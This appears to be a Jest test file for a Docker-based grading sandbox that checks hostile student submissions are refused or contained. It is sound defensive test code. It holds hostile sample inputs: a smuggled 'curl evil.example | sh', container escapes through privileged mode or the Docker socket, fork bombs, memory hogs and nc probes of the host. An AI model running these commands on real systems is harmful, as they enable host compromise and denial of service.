import { InfrastructureError, RejectedInputError } from '@kadai/errors';
import { randomUUID } from 'node:crypto';
import { createServer, type AddressInfo } from 'node:net';
import { leftovers, reap, runsOnEngine } from '@kadai/grader-docker';
import { HOSTILE_COMPOSE, HOSTILE_DOCKERFILES } from './hostile-cases';
import { files, gradeOnce, log, makeLab, rejection, testGrader } from './support';

// Hostile submissions against the real engine: each is rejected before anything runs (naming file,
// line and field) or contained by the sandbox, and nothing labelled with its submission id is left.
jest.setTimeout(180_000);
const grader = testGrader();

afterAll(async () => {
  // after the whole file: nothing of any test submission (ids "test-…") is left on the engine
  const filters = JSON.stringify({ label: ['kadai.submission'] });
  const ours = (labels: Record<string, string> | null | undefined) => (labels?.['kadai.submission'] ?? '').startsWith('test-');
  const [containers, networks, volumes, images] = await Promise.all([
    grader.docker.listContainers({ all: true, filters }),
    grader.docker.listNetworks({ filters }),
    grader.docker.listVolumes({ filters }),
    grader.docker.listImages({ all: true, filters }),
  ]);
  expect([...containers, ...networks, ...(volumes.Volumes ?? []), ...images].filter((r) => ours(r.Labels as Record<string, string>))).toEqual([]);
});
const composeLab = makeLab({ input: 'compose' }, [{ type: 'container', service: 'app' }]);
const runLab = (checks: Array<Record<string, unknown>>) => makeLab({ input: 'run' }, checks);

describe('rejected before anything runs', () => {
  it.each(HOSTILE_COMPOSE)('compose: %s', async (_name, entries, expected) => {
    const submission = files(entries);
    const issues = await rejection(grader, composeLab, submission);
    expect(issues[0]).toMatch(expected);
    // grade refuses it the same way, before creating anything
    const { error, left } = await gradeOnce(grader, composeLab, submission);
    expect(error).toBeInstanceOf(RejectedInputError);
    expect(left).toEqual([]);
  });

  const runCases: Array<[string, string, RegExp]> = [
    ['privileged', 'docker run -d --privileged busybox:1.36 sleep 60', /^run\.txt:1 --privileged: /],
    ['Docker socket', 'docker run -d -v /var/run/docker.sock:/var/run/docker.sock busybox:1.36', /^run\.txt:1 -v: mounting the Docker socket/],
    ['host root bind', 'docker run -d -v /:/host busybox:1.36', /^run\.txt:1 -v: bind mounts/],
    ['host network', 'docker run -d --network=host busybox:1.36', /^run\.txt:1 --network: /],
    ['host pid', 'docker run -d --pid host busybox:1.36', /^run\.txt:1 --pid: /],
    ['cap_add', 'docker run -d --cap-add=NET_ADMIN busybox:1.36', /^run\.txt:1 --cap-add: /],
    ['devices', 'docker run -d --device /dev/kvm busybox:1.36', /^run\.txt:1 --device: /],
    ['a shell', 'docker run -d busybox:1.36; curl evil.example | sh', /^run\.txt:1 : shell operators/],
  ];
  it.each(runCases)('docker run: %s', async (_name, line, expected) => {
    const issues = await rejection(grader, runLab([{ type: 'container' }]), files({ 'run.txt': line }));
    expect(issues[0]).toMatch(expected);
  });
});

describe('Dockerfiles as BuildKit reads them', () => {
  const lab = makeLab({ input: 'build', ports: [80] }, [{ type: 'build' }]);
  it.each(HOSTILE_DOCKERFILES)('refused: %s', async (_name, entries, expected) => {
    const submission = files(entries);
    expect((await rejection(grader, lab, submission))[0]).toMatch(expected);
    const { error, left } = await gradeOnce(grader, lab, submission);
    expect(error).toBeInstanceOf(RejectedInputError);
    expect(left).toEqual([]);
  });
  it('FROM kadai-… inside a heredoc is text, as BuildKit (which builds) reads it: the build writes it into a file and uses no other image', async () => {
    const heredocLab = makeLab({ input: 'build', ports: [80] }, [{ type: 'build' }, { type: 'image', presentPaths: ['/notes'] }]);
    const dockerfile = 'FROM busybox:1.36\nRUN cat <<NOTES > /notes\nFROM kadai-0123456789abcdef-web\nCOPY --from=kadai-0123456789abcdef-web /app /stolen\nNOTES\nRUN grep -q "^FROM kadai-0123456789abcdef-web$" /notes && test ! -e /stolen\n';
    expect(await rejection(grader, heredocLab, files({ Dockerfile: dockerfile }))).toEqual([]);
    const { results, error, left } = await gradeOnce(grader, heredocLab, files({ Dockerfile: dockerfile }));
    expect(error).toBeUndefined();
    expect(results?.map((r) => `${r.checkId} ${r.status}`)).toEqual(['c0 pass', 'c1 pass']);
    expect(left).toEqual([]);
  });
});

it('${VAR} in a Compose file gets nothing from the environment of the worker', async () => {
  process.env.KADAI_TEST_LEAK = 'leaked';
  try {
    const lab = makeLab({ input: 'compose' }, [{ type: 'container', service: 'app', env: { LEAK: 'none', HOME_SEEN: '' } }]);
    const text = 'name: my-app\nservices:\n  app:\n    image: busybox:1.36\n    command: sleep 60\n    environment:\n      LEAK: ${KADAI_TEST_LEAK:-none}\n      HOME_SEEN: ${HOME}\n';
    const { results, error, left } = await gradeOnce(grader, lab, files({ 'compose.yaml': text }));
    expect(error).toBeUndefined();
    expect(`${results?.[0]?.status} ${results?.[0]?.evidence ?? ''}`).toMatch(/^pass /);
    expect(left).toEqual([]);
  } finally {
    delete process.env.KADAI_TEST_LEAK;
  }
});

describe('contained at run time (a failed check, never an infrastructure error)', () => {
  it('a fork bomb stops at the pids limit', async () => {
    const lab = runLab([{ type: 'logs', contains: 'still here', timeoutSeconds: 30 }]);
    const { results, error, left } = await gradeOnce(grader, lab, files({ 'run.txt': `docker run -d busybox:1.36 sh -c 'f(){ f | f & }; f; sleep 2; echo still here; sleep 60'` }));
    expect(error).toBeUndefined();
    // the shell that started the bomb keeps going: the bomb hit the container's pids limit, not the machine's
    expect(results?.[0]?.status).toBe('pass');
    expect(left).toEqual([]);
  });

  it('a memory hog is OOM-killed and reported as the student failure', async () => {
    const lab = runLab([{ type: 'container' }]);
    const { results, error, left } = await gradeOnce(grader, lab, files({ 'run.txt': `docker run -d python:3.10-slim python3 -c "b = bytearray(1024 * 1024 * 1024); import time; time.sleep(60)"` }));
    expect(error).toBeUndefined();
    expect(results?.[0]).toMatchObject({ status: 'fail' });
    expect(results?.[0]?.evidence).toMatch(/OOM/);
    expect(left).toEqual([]);
  });

  it('an endless loop is limited to its CPU share and ends with the attempt', async () => {
    const lab = runLab([{ type: 'http', port: 80, timeoutSeconds: 3 }]);
    const { results, error, left, ms } = await gradeOnce(grader, lab, files({ 'run.txt': `docker run -d busybox:1.36 sh -c 'while :; do :; done'` }));
    expect(error).toBeUndefined();
    expect(results?.[0]?.status).toBe('fail');
    expect(ms).toBeLessThan(30_000);
    expect(left).toEqual([]);
  });

  it('100 MB of log output is capped by the engine and in the evidence', async () => {
    const lab = runLab([{ type: 'logs', contains: 'never printed', timeoutSeconds: 4 }]);
    const { results, error, left } = await gradeOnce(grader, lab, files({ 'run.txt': `docker run -d busybox:1.36 sh -c 'yes 0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz | head -c 104857600; sleep 60'` }));
    expect(error).toBeUndefined();
    expect(results?.[0]?.status).toBe('fail');
    expect(Buffer.byteLength(results?.[0]?.evidence ?? '')).toBeLessThanOrEqual(16 * 1024);
    expect(left).toEqual([]);
  });

  it('has no egress at run time and cannot reach the host, but services reach each other', async () => {
    // a service on the host, listening on every address (like a database or a kubelet would)
    const server = createServer((socket) => socket.end('host service\n'));
    await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
    const hostPort = (server.address() as AddressInfo).port;
    const script = [
      'wget -T 3 -q -O- http://deb.debian.org/ >/dev/null 2>&1 && echo EGRESS-OPEN || echo EGRESS-BLOCKED',
      'wget -T 3 -q -O- http://1.1.1.1/ >/dev/null 2>&1 && echo IP-OPEN || echo IP-BLOCKED',
      `gw=$(ip route | awk '/default/ {print $3}'); echo | nc -w 3 $gw ${hostPort} 2>/dev/null | grep -q host && echo HOST-OPEN || echo HOST-BLOCKED`,
      'wget -T 3 -q -O- http://web/ >/dev/null && echo PEER-OK',
      'sleep 60',
    ].join('; ');
    // $ is Compose's interpolation: $$ is a literal $ for the container's shell
    const compose = `services:\n  app:\n    image: busybox:1.36\n    command: ${JSON.stringify(['sh', '-c', script.split('$').join('$$')])}\n  web:\n    image: nginx:1.21\n`;
    const lab = makeLab({ input: 'compose' }, ['EGRESS-BLOCKED', 'IP-BLOCKED', 'HOST-BLOCKED', 'PEER-OK'].map((line) => ({ type: 'logs', service: 'app', contains: line, timeoutSeconds: 20 })));
    try {
      const { results, error, left } = await gradeOnce(grader, lab, files({ 'compose.yaml': compose }));
      expect(error).toBeUndefined();
      expect(results?.map((r) => `${r.status} ${r.evidence?.split('\n')[0] ?? ''}`)).toEqual(results?.map((r) => `pass ${r.evidence?.split('\n')[0] ?? ''}`));
      expect(left).toEqual([]);
    } finally {
      server.close();
    }
  });
});

describe('contained at build time', () => {
  it('a fork bomb in RUN stops at the build pids limit and fails the build', async () => {
    const lab = makeLab({ input: 'build', ports: [80] }, [{ type: 'build' }]);
    const dockerfile = `FROM busybox:1.36\nRUN sh -c 'f(){ f | f & }; f; sleep 3; exit 1'\n`;
    const { results, error, left } = await gradeOnce(grader, lab, files({ Dockerfile: dockerfile }));
    expect(error).toBeUndefined();
    expect(results?.[0]?.status).toBe('fail');
    expect(results?.[0]?.message.en).toMatch(/stopped at the process limit \(1024 processes/);
    expect(left).toEqual([]);
  });

  it('RUN steps reach package mirrors but not the host', async () => {
    const server = createServer((socket) => socket.end('host service\n'));
    await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
    const hostPort = (server.address() as AddressInfo).port;
    const lab = makeLab({ input: 'build', ports: [80] }, [{ type: 'build' }]);
    const dockerfile = [
      'FROM busybox:1.36',
      'RUN wget -T 10 -q -O- http://deb.debian.org/debian/ >/dev/null && echo MIRROR-OK',
      `RUN gw=$(ip route | awk '/default/ {print $3}'); if echo | nc -w 3 $gw ${hostPort} | grep -q host; then echo HOST-OPEN; exit 7; fi; echo HOST-BLOCKED`,
    ].join('\n');
    try {
      const { results, error, left } = await gradeOnce(grader, lab, files({ Dockerfile: `${dockerfile}\n` }));
      expect(error).toBeUndefined();
      expect(`${results?.[0]?.status} ${results?.[0]?.message.en}`).toMatch(/^pass /);
      expect(left).toEqual([]);
    } finally {
      server.close();
    }
  });

  it('a build that never ends stops at the build time limit', async () => {
    const quick = testGrader({ buildTimeoutMs: 5000 });
    const lab = makeLab({ input: 'build', ports: [80] }, [{ type: 'build' }, { type: 'http', port: 80, timeoutSeconds: 2 }]);
    const { results, error, left, ms } = await gradeOnce(quick, lab, files({ Dockerfile: 'FROM busybox:1.36\nRUN sleep 600\n' }));
    expect(error).toBeUndefined();
    expect(results?.[0]).toMatchObject({ status: 'fail' });
    expect(results?.[0]?.message.en).toMatch(/did not finish within 5 s/);
    expect(results?.[1]?.status).toBe('skipped');
    expect(ms).toBeLessThan(30_000);
    expect(left).toEqual([]);
  });

  it('a build context over the lab limit is rejected before it is sent to the engine', async () => {
    const lab = makeLab({ input: 'build', ports: [80] }, [{ type: 'build' }]);
    const huge = Buffer.alloc(30 * 1024 * 1024, 'x');
    const submission = files({ Dockerfile: 'FROM busybox:1.36\nCOPY . /ctx\n', 'blob.txt': huge });
    const { error, left } = await gradeOnce(grader, lab, submission);
    expect(error).toBeInstanceOf(RejectedInputError);
    expect((error as RejectedInputError).status).toBe(413);
    expect(left).toEqual([]);
  });

  it('a large build context within the limit builds and is cleaned up', async () => {
    const lab = makeLab({ input: 'build', ports: [80] }, [{ type: 'build' }, { type: 'image', maxSizeMB: 50 }]);
    const big = Buffer.alloc(8 * 1024 * 1024, 'x');
    (lab.definition.submission as { maxBytes: number }).maxBytes = 10 * 1024 * 1024;
    const { results, error, left } = await gradeOnce(grader, lab, files({ Dockerfile: 'FROM busybox:1.36\nCOPY . /ctx\n', 'blob.txt': big }));
    expect(error).toBeUndefined();
    expect(results?.[0]?.status).toBe('pass');
    expect(left).toEqual([]);
  });
});

describe('the engine', () => {
  it('unreachable is a retryable infrastructure error, not a zero', async () => {
    const down = testGrader({ socketPath: '/nonexistent/docker.sock' });
    const error = await down.grade(runLab([{ type: 'container' }]), { submissionId: 'test-engine-down', files: files({ 'run.txt': 'docker run -d nginx' }) }, { signal: new AbortController().signal, log, token: 1 }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(InfrastructureError);
    expect((error as InfrastructureError).retryable).toBe(true);
  });
});

describe('side by side', () => {
  it('attempts declaring the same host port do not collide: each is probed through its own assigned port', async () => {
    const lab = runLab([{ type: 'http', hostPort: 8080, bodyContains: 'Welcome to nginx!', timeoutSeconds: 15 }]);
    const submission = files({ 'run.txt': 'docker run -d --name web -p 8080:80 nginx' });
    const outcomes = await Promise.all([1, 2, 3].map(() => gradeOnce(grader, lab, submission)));
    for (const o of outcomes) {
      expect(o.error).toBeUndefined();
      expect(o.results?.[0]?.status).toBe('pass');
      expect(o.left).toEqual([]);
    }
    const probed = outcomes.map((o) => /probed via http:\/\/127\.0\.0\.1:(\d+)/.exec(o.results?.[0]?.evidence ?? '')?.[1]);
    expect(new Set(probed).size).toBe(3);
  });

  it("a second run of the same submission (a new lease token) neither collides with nor removes the first run's resources", async () => {
    const submissionId = `test-${randomUUID()}`;
    const prefix = `kadai-${submissionId.replace(/[^a-z0-9]/g, '').slice(0, 20)}`;
    // what a run that lost its lease still holds (its worker stalled or crashed): its network, named and labelled for token 1
    await grader.docker.createNetwork({ Name: `${prefix}-1-net`, Internal: true, Labels: { 'kadai.submission': submissionId, 'kadai.lease-token': '1', 'kadai.created': String(Date.now()) } });
    const again = await gradeOnce(grader, runLab([{ type: 'container' }]), files({ 'run.txt': 'docker run -d --name web nginx' }), undefined, submissionId, 2);
    expect(again.error).toBeUndefined();
    expect(again.results?.[0]?.status).toBe('pass');
    expect(again.left).toEqual([`network ${prefix}-1-net`]);
  });

  it('the reaper removes the runs whose lease is over and leaves a live run alone', async () => {
    const submissionId = `test-${randomUUID()}`;
    const prefix = `kadai-${submissionId.replace(/[^a-z0-9]/g, '').slice(0, 20)}`;
    for (const token of [1, 2]) {
      await grader.docker.createNetwork({ Name: `${prefix}-${token}-net`, Internal: true, Labels: { 'kadai.submission': submissionId, 'kadai.lease-token': String(token), 'kadai.created': String(Date.now()) } });
    }
    expect(await runsOnEngine(grader.docker)).toEqual(expect.arrayContaining([{ submissionId, token: 1 }, { submissionId, token: 2 }]));
    await reap(grader.docker, { olderThanMs: 60_000, runs: [{ submissionId, token: 1 }] });
    expect(await leftovers(grader.docker, submissionId)).toEqual([`network ${prefix}-2-net`]);
    await reap(grader.docker, { olderThanMs: 0, submissionId });
  });
});
